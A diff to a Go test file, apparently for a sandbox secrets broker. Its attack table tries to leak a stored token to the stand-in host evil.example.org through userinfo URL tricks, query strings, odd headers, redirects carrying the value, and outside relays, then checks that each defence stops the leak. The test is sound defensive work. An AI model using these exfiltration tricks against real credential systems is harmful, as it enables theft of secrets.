@@ -99,6 +99,12 @@ func shows(text string) bool {
 const granting = `{"capabilities": {"net.fetch": ["*.example.com", "evil.example.org", "*.example.org", "localhost"], "secrets.has": true, "secrets.use": ["*"], "fs.read": ["."], "fs.write": ["."], "stream.send": true},
 	"rules": [{"permission": "*", "action": "allow"}]}`
 
+// disabled are the defences that an attack runs without.
+type disabled struct {
+	switches
+	hosts bool // the secret is for its own hosts alone
+}
+
 // secretAttack is one way to get the value, or to have it sent to another host.
 type secretAttack struct {
 	name    string
@@ -109,23 +115,27 @@ type secretAttack struct {
 	options BrokerOptions
 	policy  string
 	ask     *sandboxtest.Asker
-	off     func(*switches)
+	off     func(*disabled)
 }
 
 // leaks makes a call in a session and reports whether the value is in anything that came out, or went to
 // another host than its own.
-func (a secretAttack) leaks(t *testing.T, off switches) bool {
+func (a secretAttack) leaks(t *testing.T, off disabled) bool {
 	t.Helper()
 	ctx := t.Context()
 	var s secrets.Store
-	must(t, s.Set(ctx, "github", value, []string{"api.example.com"}))
+	own := []string{"api.example.com"}
+	if off.hosts {
+		own = []string{"*.example.com", "*.api.example.com", "evil.example.org", "*.evil.example.org", "localhost"}
+	}
+	must(t, s.Set(ctx, "github", value, own))
 	must(t, s.Set(ctx, "other", "another-value-0123", []string{"www.example.com"}))
 	w := &world{answer: a.answer, body: a.body}
 	a.options.Transport = w
 	b, err := NewBroker(a.options)
 	must(t, err)
 	tools := Secrets(b, &s)
-	u := user{b, &s, off}
+	u := user{b, &s, off.switches}
 	tools[1].Needs = func(ctx context.Context, c *sandbox.Call) ([]policy.Need, error) { return u.needs(ctx, c) }
 	tools[1].Run = func(ctx context.Context, c *sandbox.Call) (any, error) { return u.request(ctx, c) }
 	text := a.policy
@@ -222,7 +232,7 @@ func TestAttackSecrets(t *testing.T) {
 	count := attack.Start(t, "secrets")
 	token := "secret.github.placeholder"
 	bearer := func(name string) map[string]any { return map[string]any{name: "Bearer " + token} }
-	hosts, headers, redirects, hides := func(o *switches) { o.hosts = true }, func(o *switches) { o.headers = true }, func(o *switches) { o.redirect, o.hosts = true, true }, func(o *switches) { o.hide = true }
+	hosts, headers, redirects, hides := func(o *disabled) { o.hosts = true }, func(o *disabled) { o.headers = true }, func(o *disabled) { o.redirect, o.hosts = true, true }, func(o *disabled) { o.hide = true }
 	backwards := []byte(value)
 	slices.Reverse(backwards)
 	rows := []secretAttack{
@@ -233,10 +243,10 @@ func TestAttackSecrets(t *testing.T) {
 		{name: "with the host as a user", url: "https://api.example.com@evil.example.org/", off: hosts},
 		{name: "in another case and with a root's dot, to another", url: "https://EVIL.example.org./", off: hosts},
 		{name: "to this machine", url: "http://localhost/", off: hosts},
-		{name: "over http", url: "http://api.example.com/", options: BrokerOptions{Insecure: true}, off: func(o *switches) { o.plain = true }},
+		{name: "over http", url: "http://api.example.com/", options: BrokerOptions{Insecure: true}, off: func(o *disabled) { o.plain = true }},
 		{name: "together with a secret of the other host", url: "https://www.example.com/", headers: map[string]any{"authorization": "secret.other.placeholder", "x-api-key": token}, off: hosts},
-		{name: "in an address", url: "https://api.example.com/?q=" + token, off: func(o *switches) { o.address = true }},
-		{name: "in an escaped address", url: "https://api.example.com/?q=secret%2Egithub%2eplaceholder", off: func(o *switches) { o.address = true }},
+		{name: "in an address", url: "https://api.example.com/?q=" + token, off: func(o *disabled) { o.address = true }},
+		{name: "in an escaped address", url: "https://api.example.com/?q=secret%2Egithub%2eplaceholder", off: func(o *disabled) { o.address = true }},
 		{name: "as metadata that the server shows", headers: bearer("x-amz-meta-key"), off: headers},
 		{name: "as a title that the server shows", headers: bearer("slug"), off: headers},
 		{name: "as the language", headers: bearer("accept-language"), off: headers},
@@ -247,7 +257,7 @@ func TestAttackSecrets(t *testing.T) {
 		{name: "a header twice, in two cases", headers: map[string]any{"authorization": token, "Authorization": token}, off: headers},
 		{name: "the server redirects to another host", answer: redirect("https://evil.example.org/landing"), off: redirects},
 		{name: "to another without a scheme", answer: redirect("//evil.example.org/landing"), off: redirects},
-		{name: "to http of the same host", answer: redirect("http://api.example.com/landing"), options: BrokerOptions{Insecure: true}, off: func(o *switches) { o.redirect, o.plain = true, true }},
+		{name: "to http of the same host", answer: redirect("http://api.example.com/landing"), options: BrokerOptions{Insecure: true}, off: func(o *disabled) { o.redirect, o.plain = true, true }},
 		{name: "to a host below its own", answer: redirect("https://x.api.example.com/landing"), off: redirects},
 		{name: "to an address with the value", answer: redirect("https://evil.example.org/landing?k=" + url.QueryEscape(value)), off: hides},
 		{name: "to its own address with the value", answer: redirect("/landing?k=" + url.QueryEscape(value)), off: hides},
@@ -286,17 +296,17 @@ func TestAttackSecrets(t *testing.T) {
 			return fetch.Response{Status: 500, Header: map[string]string{"content-type": "text/plain"}}
 		}, body: say("bad token " + value), off: hides},
 		{name: "an echo of the whole header", body: func(r fetch.Request) string { return fmt.Sprint(r.Header) }, off: hides},
-		{name: "a relay that is not one of its hosts reads it", options: BrokerOptions{Relay: "https://relay.example.org/r"}, off: func(o *switches) { o.relay = true }},
-		{name: "a relay on the page's own server", options: BrokerOptions{Relay: "/relay"}, off: func(o *switches) { o.relay = true }},
+		{name: "a relay that is not one of its hosts reads it", options: BrokerOptions{Relay: "https://relay.example.org/r"}, off: func(o *disabled) { o.relay = true }},
+		{name: "a relay on the page's own server", options: BrokerOptions{Relay: "/relay"}, off: func(o *disabled) { o.relay = true }},
 	}
 	for _, row := range rows {
-		if row.leaks(t, switches{}) {
+		if row.leaks(t, disabled{}) {
 			t.Errorf("%s: it gets out", row.name)
 			count.Try(row.name, true)
 			continue
 		}
 		count.Try(row.name, false)
-		off := switches{}
+		off := disabled{}
 		row.off(&off)
 		count.Off(row.name, row.leaks(t, off))
 	}
